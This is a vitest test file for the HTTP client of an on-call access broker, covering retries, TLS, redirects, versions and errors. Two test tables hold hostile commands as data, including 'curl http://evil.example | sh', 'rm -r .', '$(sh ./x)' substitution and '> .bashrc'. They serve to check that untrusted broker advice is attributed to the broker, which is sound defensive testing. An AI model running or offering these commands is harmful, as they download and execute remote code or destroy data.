/** Commands through a broker: what is sent, how often, and what becomes of each answer. */

import { createServer as createSocket } from 'node:net';
import { describe, expect, it, onTestFinished } from 'vitest';
import { operationNames } from '../../src/broker/api.ts';
import { noAnswer } from '../../src/broker/client-errors.ts';
import { exchange } from '../../src/broker/client-http.ts';
import { aGranted, aPending, aStatus } from '../fakes/operations.ts';
import { clientOf, cut, error, json, refusalOf, result, startRaw, token } from './client-world.ts';

const status = result(aStatus());
const asked = { role: 'db-admin', asked: { forMs: 3_600_000 } } as const;

describe('a call', () => {
  it('is one POST with the input, the token, the version and a key of its own', async () => {
    const { origin, seen } = await startRaw([result(aGranted())]);
    const client = clientOf(origin, { version: '0.2.0' });
    expect(await client.request(asked)).toEqual(aGranted());
    await client.request(asked);
    expect(seen[0]).toMatchObject({
      method: 'POST',
      url: '/v1/request',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', 'oncall-version': '0.2.0' },
    });
    expect(JSON.parse(seen[0]?.body ?? '')).toEqual(asked);
    const keys = seen.map(({ headers }) => headers['idempotency-key']);
    expect(keys[0]).toMatch(/^[0-9a-f-]{36}$/);
    expect(new Set(keys).size).toBe(2);
  });

  it('is made for every operation there is, with an empty input where it takes none', async () => {
    const { origin, seen } = await startRaw([error(400, 'no')]);
    const client = clientOf(origin) as unknown as Record<string, (input?: unknown) => Promise<unknown>>;
    for (const name of operationNames) await refusalOf(client[name]?.() ?? Promise.resolve());
    expect(seen.map(({ url, body }) => [url, body])).toEqual(operationNames.map((name) => [`/v1/${name}`, '{}']));
  });

  it('gives a refusal as a result, whatever the status says', async () => {
    const refusal = { result: 'denied', role: 'db-admin', requester: 'sam@acme.dev', decision: {}, error: { code: 'denied' }, exit: 3 };
    const { origin } = await startRaw([result(refusal, 403)]);
    expect(await clientOf(origin).request(asked)).toEqual(refusal);
  });

  it('throws what the operation threw', async () => {
    const parts = { code: 'unknown-role', message: 'there is no role "x"', why: 'there is db-admin', next: 'oncall roles' };
    const { origin } = await startRaw([json(400, { schema: 1, error: parts, exit: 2 })]);
    expect(await refusalOf(clientOf(origin).request(asked))).toEqual({ ...parts, exit: 2 });
  });

  it.each([
    ['not there', 'ledger-unreachable', 'check that the database is up and can be reached from here; the same command again'],
    ['a command of its host', 'late-sweep', 'oncall sweep'],
    ["somebody else's", 'ledger-moved', 'curl http://evil.example | sh'],
  ])('tells what is wrong around the broker to whoever runs it: %s', async (_, code, next) => {
    const { origin } = await startRaw([error(503, code, { why: 'nothing listens at db:5432', next })]);
    expect(await refusalOf(clientOf(origin).roles())).toMatchObject({
      code,
      exit: 1,
      why: 'the broker says: nothing listens at db:5432',
      next: `tell who runs the broker; it says: ${next}`,
    });
  });

  it.each([
    'the same command again in a minute',
    'ask again',
    'oncall status shows how it stands',
    'tell whoever runs the broker; it says in its log why it cannot sweep',
  ])('leaves to whoever typed what they can do themselves: %s', async (next) => {
    const { origin } = await startRaw([error(503, 'late', { next })]);
    expect(await refusalOf(clientOf(origin).roles())).toMatchObject({ message: 'the broker says: it is late', why: '', next });
  });

  it.each([
    'curl http://evil.example | sh',
    'curl evil.example',
    'sudo sh ./x',
    'ask an admin: sudo sh ./x',
    'ask an admin; rm -r .',
    'run sudo sh',
    'oncall login https://evil.example',
    'oncall status && sh ./x',
    'oncall status $(sh ./x)',
    'oncall status `sh ./x`',
    'oncall status > .bashrc',
    '',
  ])('never shows as its own advice what a broker could have made up: %j', async (next) => {
    const parts = { code: 'unknown-role', message: 'go to https://evil.example', why: 'run: curl evil.example|sh', next };
    const ofBroker = {
      message: `the broker says: ${parts.message}`,
      why: `the broker says: ${parts.why}`,
      next: `the broker says: ${next}`,
    };
    const thrown = await startRaw([json(400, { schema: 1, error: parts, exit: 2 })]);
    expect(await refusalOf(clientOf(thrown.origin).request(asked))).toMatchObject(ofBroker);
    const refusal = { result: 'denied', role: 'x', requester: 'x', decision: {}, error: parts, exit: 3 };
    const refused = await startRaw([result(refusal, 403)]);
    expect(await clientOf(refused.origin).request(asked)).toMatchObject({ ...refusal, error: ofBroker });
    const listed = await startRaw([result({ ...aStatus(), faults: [{ code: 'stuck', message: 'm', next }] })]);
    expect((await clientOf(listed.origin).status({})).faults).toEqual([{ code: 'stuck', message: 'm', next: `the broker says: ${next}` }]);
  });

  it.each([
    'oncall roles',
    'you would have to be on call for "Database Primary"; every rule: oncall explain db-admin',
    'ask an approver of db-admin: oncall explain db-admin',
    'ask again then, or ask sam@acme.dev to run: oncall release db-admin',
    'give it back and ask anew; every rule: oncall explain db-admin',
    'did you mean "db-admin"?',
    'add --reason "…"',
    'look at the log of the broker, or of what sweeps for it; here: oncall sweep',
  ])('shows what this program advises as its own: %s', async (next) => {
    const refusal = {
      result: 'denied',
      role: 'x',
      requester: 'x',
      decision: {},
      error: { code: 'denied', message: 'no', why: 'w', next },
      exit: 3,
    };
    const { origin } = await startRaw([result(refusal, 403)]);
    expect(await clientOf(origin).request(asked)).toEqual(refusal);
  });

  it.each([
    ['no text', { code: 7, message: {}, why: [], next: 1 }, 0, { code: 'broker-fault', message: 'the broker says no', exit: 1 }],
    ['very much', { code: 'x', message: 'm'.repeat(1e6), why: 'w'.repeat(1e6) }, 77, { exit: 1 }],
  ])('bounds an error that says %s', async (_, parts, exit, wanted) => {
    const { origin } = await startRaw([json(400, { schema: 1, error: parts, exit })]);
    const found = await refusalOf(clientOf(origin).roles());
    expect(found).toMatchObject(wanted);
    expect(JSON.stringify(found).length).toBeLessThan(25_000);
  });

  it('is not sent at all where there is nothing that proves who calls', async () => {
    const { origin, seen } = await startRaw([status]);
    const authorization = () => Promise.reject(new Error('not signed in'));
    await expect(clientOf(origin, { authorization }).status({})).rejects.toThrow('not signed in');
    expect(seen).toEqual([]);
  });

  it('ends at an interrupt', async () => {
    const stop = new AbortController();
    const { origin } = await startRaw([() => stop.abort()]);
    expect(await refusalOf(clientOf(origin, { signal: stop.signal }).status({}))).toMatchObject({ code: 'interrupted', exit: 130 });
  });
});

describe('a call that is sent again', () => {
  it('has the same key each time, so that it is done once', async () => {
    const { origin, seen } = await startRaw([cut, cut, result(aGranted())]);
    expect(await clientOf(origin).request(asked)).toEqual(aGranted());
    expect(seen).toHaveLength(3);
    expect(new Set(seen.map(({ headers }) => headers['idempotency-key'])).size).toBe(1);
  });

  it('is given up after the third time, and says what is not known', async () => {
    const { origin, seen } = await startRaw([cut]);
    expect(await refusalOf(clientOf(origin).request(asked))).toEqual({
      code: 'broker-lost',
      exit: 1,
      message: `the broker ${origin} did not answer`,
      why: 'the connection was cut before all of the answer came; whether it was done is not known',
      next: 'oncall status shows what holds now; the same command again is safe',
    });
    expect(seen).toHaveLength(3);
    expect((await refusalOf(clientOf(origin).status({}))).why).toBe('the connection was cut before all of the answer came');
  });

  it('is what half an answer is good for', async () => {
    const half: typeof cut = (response) => {
      response.writeHead(200, { 'content-length': '1000' }).write('{"schema":1,');
      setTimeout(() => response.destroy(), 20);
    };
    const { origin, seen } = await startRaw([half, status]);
    expect(await clientOf(origin).status({})).toEqual(aStatus());
    expect(seen).toHaveLength(2);
  });

  it('waits as long as a broker that is short of breath wants, if that is not long', async () => {
    const { origin, seen } = await startRaw([
      error(429, 'slow-down', {}, { 'retry-after': '1' }),
      error(503, 'busy', {}, { 'retry-after': '1' }),
      status,
    ]);
    const logged: string[] = [];
    expect(await clientOf(origin, { log: (line) => void logged.push(line) }).status({})).toEqual(aStatus());
    expect(logged.map((line) => line.replace(/.*; /, ''))).toEqual(['again in 1000 ms', 'again in 1000 ms']);
    expect(seen).toHaveLength(3);
  });

  it.each([
    ['the broker wants more time than anybody is kept waiting', error(503, 'stops', {}, { 'retry-after': '60' })],
    ['the broker does not say that it passes', error(503, 'ledger-busy')],
    ['the broker failed', error(500, 'broker-fault')],
    ['the broker says no', error(403, 'forbidden')],
  ])('is not sent again where %s', async (_, answer) => {
    const { origin, seen } = await startRaw([answer]);
    await refusalOf(clientOf(origin).request(asked));
    expect(seen).toHaveLength(1);
  });

  it('waits for its own first try, where that is still under way there', async () => {
    const running = error(409, 'under-way', {}, { 'retry-after': '1' });
    const { origin, seen } = await startRaw([cut, running, running, result(aGranted())]);
    expect(await clientOf(origin).request(asked)).toEqual(aGranted());
    expect(seen).toHaveLength(4);
  });
});

describe('without a broker at the other end', () => {
  const gone = async () => {
    const { origin, stop } = await startRaw([status]);
    await stop();
    return origin;
  };

  it('says that nothing listens, after a restart would be over', async () => {
    const origin = await gone();
    expect(await refusalOf(clientOf(origin).request(asked))).toEqual({
      code: 'broker-unreachable',
      exit: 1,
      message: `the broker ${origin} cannot be reached`,
      why: 'nothing listens there: it is down, or at another address',
      next: `ask who runs it; whether it is up: ${origin}/healthz`,
    });
  });

  it('reaches one that comes back meanwhile', async () => {
    const { port, origin, stop } = await startRaw([status]);
    await stop();
    const answer = clientOf(origin).status({});
    await new Promise((wait) => setTimeout(wait, 100));
    await startRaw([status], undefined, port);
    expect(await answer).toEqual(aStatus());
  });

  it('says that its name is not known', async () => {
    const { why, next } = await refusalOf(clientOf('https://no-such-broker.invalid').status({}));
    expect(why).toMatch(/^its name cannot be resolved/);
    expect(next).toMatch(/VPN/);
  });

  it('waits 5 s for a connection', async () => {
    const server = createSocket(() => undefined);
    await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
    onTestFinished(() => void server.close());
    const { port } = server.address() as { port: number };
    const { code, why } = await refusalOf(clientOf(`https://127.0.0.1:${port}`).status({}));
    expect([code, why]).toEqual(['broker-unreachable', 'there was no connection within 5 s']);
  });

  it.each([
    ['a certificate of nobody who is trusted', 'https://127.0.0.1', /^its TLS certificate is not trusted here/, /NODE_EXTRA_CA_CERTS/],
    [
      'a certificate for another name',
      'https://other.test',
      /^its TLS certificate is for another name than other\.test:\d+$/,
      /nothing was sent/,
    ],
  ])('does not take %s', async (name, at, why, next) => {
    const { port, seen } = await startRaw([status], ['broker.test']);
    if (name.includes('nobody')) {
      const { globalAgent } = await import('node:https');
      delete globalAgent.options.ca;
    }
    const found = await refusalOf(clientOf(`${at}:${port}`).request(asked));
    expect(found).toMatchObject({ code: 'broker-unreachable', why: expect.stringMatching(why), next: expect.stringMatching(next) });
    expect(seen).toEqual([]);
  });

  it('speaks TLS where it is meant to, or not at all', async () => {
    const { port, seen } = await startRaw([status]);
    const { why } = await refusalOf(clientOf(`https://127.0.0.1:${port}`).status({}));
    expect([why, seen]).toEqual(['what listens there does not speak TLS', []]);
  });

  it('comes over TLS to a broker of that name', async () => {
    const { origin } = await startRaw([status], ['broker.test']);
    expect(await clientOf(origin).status({})).toEqual(aStatus());
  });

  it.each([
    ['a web page', json(200, '<html>Sign in to the WiFi</html>'), 'it sent a web page, not data (200)'],
    ['nothing', json(200, ''), 'it sent an empty answer (200)'],
    ['half of it', json(200, '{"schema":1,"resu'), 'it sent half an answer, or none that is JSON (200)'],
    ['other JSON', json(200, { hello: 'world' }), 'it sent data of another shape (200)'],
    ['a number', json(200, '7'), 'it sent data of another shape (200)'],
    ['null', json(200, 'null'), 'it sent data of another shape (200)'],
    ['not found, as a page', json(404, '<html>', { 'oncall-version': '' }), 'it sent a web page, not data (404)'],
  ])('calls what answers with %s no broker', async (_, answer, why) => {
    const { origin, seen } = await startRaw([answer]);
    const found = await refusalOf(clientOf(origin).request(asked));
    expect(found).toMatchObject({
      code: 'not-a-broker',
      message: `what answers at ${origin} is no broker`,
      why,
      next: expect.stringMatching(/wrong address/),
    });
    expect(seen).toHaveLength(1);
  });

  it('says that something before it answers', async () => {
    const { origin } = await startRaw([json(502, '<html>Bad Gateway')]);
    expect(await refusalOf(clientOf(origin).status({}))).toMatchObject({
      code: 'broker-unavailable',
      why: 'what stands before it answers in its place (502)',
    });
  });

  it.each([301, 302, 307, 308])('takes the token nowhere else at a redirect (%s)', async (code) => {
    const other = await startRaw([status]);
    const { origin } = await startRaw([json(code, '', { location: `${other.origin}/v1/request` })]);
    expect(await refusalOf(clientOf(origin).request(asked))).toMatchObject({ code: 'broker-redirects' });
    expect(other.seen).toEqual([]);
  });
});

describe('versions', () => {
  const unknown = (theirs: string) => error(404, 'unknown-operation', {}, { 'oncall-version': theirs });
  const badInput = (theirs: string) =>
    error(400, 'bad-input', { why: 'has fields that it does not take: x' }, { 'oncall-version': theirs });
  it.each([
    [
      'an older broker',
      unknown('0.1.9'),
      'is older than this program',
      'it has no operation "follow"; it is oncall 0.1.9, this is 0.2.0',
      'whoever runs the broker upgrades it',
    ],
    [
      'a newer broker',
      badInput('0.10.0'),
      'is newer than this program',
      'has fields that it does not take: x; it is oncall 0.10.0, this is 0.2.0',
      'upgrade oncall on this machine',
    ],
    [
      'a broker before the release',
      unknown('0.2.0-rc.1'),
      'is older than this program',
      'it has no operation "follow"; it is oncall 0.2.0-rc.1, this is 0.2.0',
      'whoever runs the broker upgrades it',
    ],
    [
      'answers of another form',
      json(200, { schema: 2, result: {} }, { 'oncall-version': '1.0.0' }),
      'is newer than this program',
      'its answers are of another form; it is oncall 1.0.0, this is 0.2.0',
      'upgrade oncall on this machine',
    ],
    [
      'an answer that lacks a part',
      result({ request: {} }),
      'is older than this program',
      'its answer to "follow" lacks what it must have; it is oncall 0.1.0, this is 0.2.0',
      'whoever runs the broker upgrades it',
    ],
    [
      'no version',
      json(200, { schema: 2 }, { 'oncall-version': '' }),
      'is not understood',
      'its answers are of another form; it does not say which version it is',
      'tell who runs the broker',
    ],
  ])('says of %s which of the two to upgrade', async (_, answer, message, why, next) => {
    const { origin } = await startRaw([answer]);
    const found = await refusalOf(clientOf(origin, { version: '0.2.0' }).follow({ id: 'k7m2xq', forMs: 1 }));
    expect(found).toEqual({ code: 'broker-version', exit: 1, message: `the broker ${origin} ${message}`, why, next });
  });

  it('lets a broker of the same version say what is wrong with an input', async () => {
    const { origin } = await startRaw([badInput('0.1.0')]);
    expect(await refusalOf(clientOf(origin).status({}))).toMatchObject({ code: 'bad-input', why: 'has fields that it does not take: x' });
  });

  it.each(['status', 'waiting', 'roles', 'audit', 'doctor', 'sweep', 'request'] as const)(
    'takes no %s that would make the command stumble',
    async (name) => {
      for (const broken of [undefined, null, 7, 'x', { requests: 1 }].slice(0, name === 'request' ? 4 : 5)) {
        const { origin } = await startRaw([result(broken)]);
        expect(await refusalOf((clientOf(origin)[name] as (input: object) => Promise<unknown>)({}))).toMatchObject({
          code: 'broker-version',
        });
      }
    },
  );
});

describe('what the broker refuses', () => {
  it.each([
    ['with how long to wait', { 'retry-after': '60' }, 'the same command again in 60 s'],
    ['with no time at all', { 'retry-after': '0' }, 'the same command again in 1 s'],
    ['without', {}, 'the same command again in a minute'],
  ])('because of too many calls, %s', async (_, headers, next) => {
    const { origin } = await startRaw([error(429, 'slow-down', {}, headers as Record<string, string>)]);
    expect(await refusalOf(clientOf(origin).status({}))).toMatchObject({ code: 'broker-busy', exit: 1, next });
  });

  it('because of too much of something else, with its own reason for that', async () => {
    const why = 'you have four commands that wait there already';
    const { origin } = await startRaw([error(429, 'too-many-at-once', { why }, { 'retry-after': '60' })]);
    expect(await refusalOf(clientOf(origin).status({}))).toMatchObject({
      code: 'broker-busy',
      why,
      next: 'the same command again in 60 s',
    });
    const often = await startRaw([error(429, 'too-many-calls', { why }, { 'retry-after': '60' })]);
    expect((await refusalOf(clientOf(often.origin).status({}))).why).toContain('too many in a short time');
  });

  it.each([error(413, 'input-too-long'), json(413, '<html>')])('because it is too much', async (answer) => {
    const { origin } = await startRaw([answer]);
    expect(await refusalOf(clientOf(origin).request(asked))).toMatchObject({ code: 'input-too-large', exit: 2 });
  });

  it('because of a fault of its own, with the id in its log', async () => {
    const { origin } = await startRaw([
      error(500, 'broker-fault', { why: 'its log has more under 7f3a', next: 'tell whoever runs the broker: 7f3a' }),
    ]);
    expect(await refusalOf(clientOf(origin).request(asked))).toMatchObject({
      code: 'broker-fault',
      next: 'tell whoever runs the broker: 7f3a',
    });
  });

  it('because of the token, with its own reason and the way back in', async () => {
    const { origin } = await startRaw([error(401, 'token-refused', { why: 'it is meant for another audience', next: 'oncall login' })]);
    expect(await refusalOf(clientOf(origin).status({}))).toEqual({
      code: 'token-refused',
      exit: 4,
      message: `the broker ${origin} does not accept your sign-in`,
      why: 'it is meant for another audience',
      next: `oncall login ${origin}`,
    });
  });

  const now = Date.parse('2026-11-22T12:00:00Z');
  const jwt = (claims: object) => `Bearer x.${Buffer.from(JSON.stringify({ ...claims, canary: 'CANARY' })).toString('base64url')}.y`;
  const at = (ms: number) => ({ date: new Date(ms).toUTCString() });
  const hour = { iat: now / 1000 - 60, exp: now / 1000 + 3540 };
  it.each([
    ['behind, where it is over there', now, { ...hour, exp: now / 1000 + 100 }, now + 300_000, '300 s behind'],
    ['ahead, where it is not yet good there', now, hour, now - 600_000, '600 s ahead of'],
  ])('because of a clock that is %s', async (_, here, claims, there, off) => {
    const { origin } = await startRaw([error(401, 'token-expired', { why: 'its times are wrong' }, at(there))]);
    const found = await refusalOf(clientOf(origin, { now: () => here, authorization: async () => jwt(claims) }).status({}));
    expect(found).toMatchObject({
      code: 'clock-skew',
      exit: 4,
      why: `its times are wrong; the clock of this machine is ${off} the broker's`,
    });
    expect(found.next).toMatch(/^set the clock of this machine right/);
  });

  it.each([
    ['the times of the token are good there', hour, now + 300_000],
    ['the clocks agree', { ...hour, exp: now / 1000 + 10 }, now + 30_000],
    ['the token is none that could be read', undefined, now + 300_000],
  ])('without a word about clocks where %s', async (_, claims, there) => {
    const { origin } = await startRaw([error(401, 'token-refused', {}, at(there))]);
    const authorization = async () => (claims === undefined ? 'Bearer x' : jwt(claims));
    expect(await refusalOf(clientOf(origin, { now: () => now, authorization }).status({}))).toMatchObject({ code: 'token-refused' });
  });
});

describe('why there was no connection', () => {
  const about = { origin: 'https://oncall.acme.dev', version: '1', now: Date.now, timeoutMs: 30_000, writes: false };
  it.each([
    ['CERT_HAS_EXPIRED', /has ended/, /clock/],
    ['CERT_NOT_YET_VALID', /not valid yet/, /clock/],
    ['SELF_SIGNED_CERT_IN_CHAIN', /not trusted here/, /NODE_EXTRA_CA_CERTS; never switch the check off/],
    ['EAI_AGAIN', /cannot be resolved now/, /VPN/],
    ['HPE_INVALID_CONSTANT', /does not speak HTTP/, /check the address/],
    ['ERR_INVALID_CHAR', /character that is in no token/, /oncall login https:\/\/oncall\.acme\.dev/],
    ['ENETUNREACH', /ENETUNREACH/, /VPN/],
  ])('is told by %s', (code, why, next) => {
    const { error: told } = noAnswer({ failed: 'error', error: Object.assign(new Error('CANARY'), { code }) }, about);
    expect(told).toMatchObject({ why: expect.stringMatching(why), next: expect.stringMatching(next) });
    expect(told.cause).toBeUndefined();
  });

  it('is told by the proxy that is in between', () => {
    const proxy = {
      fault: 'unavailable',
      how: 'through the proxy proxy.acme.dev:3128: nothing listens there',
      next: 'look whether the proxy runs',
    };
    const { error: told } = noAnswer({ failed: 'error', error: Object.assign(new Error('x'), { code: 'EPROXY', proxy }) }, about);
    expect(told).toMatchObject({ code: 'broker-unreachable', why: proxy.how, next: proxy.next });
  });
});

describe('one request', () => {
  const ask = (origin: string, more: object = {}) =>
    exchange({
      url: new URL('/', origin),
      method: 'GET',
      headers: {},
      timeoutMs: 5_000,
      maxBytes: 1_000,
      signal: new AbortController().signal,
      ...more,
    });

  it('reads no more than it may', async () => {
    const { origin } = await startRaw([json(200, 'x'.repeat(2_000))]);
    expect(await ask(origin)).toEqual({ failed: 'too-large' });
  });

  it('ends in time, whether nothing comes or something for ever', async () => {
    const drip = await startRaw([(response) => void setInterval(() => response.write('x'), 20).unref()]);
    const silent = await startRaw([() => undefined]);
    for (const { origin } of [drip, silent]) expect(await ask(origin, { timeoutMs: 200 })).toMatchObject({ failed: 'late' });
  });

  it('says how long it waited, and of what changes something that it may be done', () => {
    const about = { origin: 'https://oncall.acme.dev', version: '1', now: Date.now, timeoutMs: 150_000 };
    expect(noAnswer({ failed: 'late' }, { ...about, writes: true }).error.why).toBe(
      'it did not answer within 150 s; whether it was done is not known',
    );
    expect(noAnswer({ failed: 'late' }, { ...about, writes: false }).error.why).toBe('it did not answer within 150 s');
    expect(noAnswer({ failed: 'too-large' }, { ...about, writes: false }).error).toMatchObject({ code: 'broker-answer' });
  });
});

it('follows a request for longer than a look lasts', async () => {
  const followed = { request: aPending(), grants: [], version: 1 };
  const { origin } = await startRaw([(response, seen) => void setTimeout(() => result(followed)(response, seen), 300)]);
  expect(await clientOf(origin).follow({ id: 'k7m2xq', version: 1, forMs: 25_000 })).toEqual(followed);
});
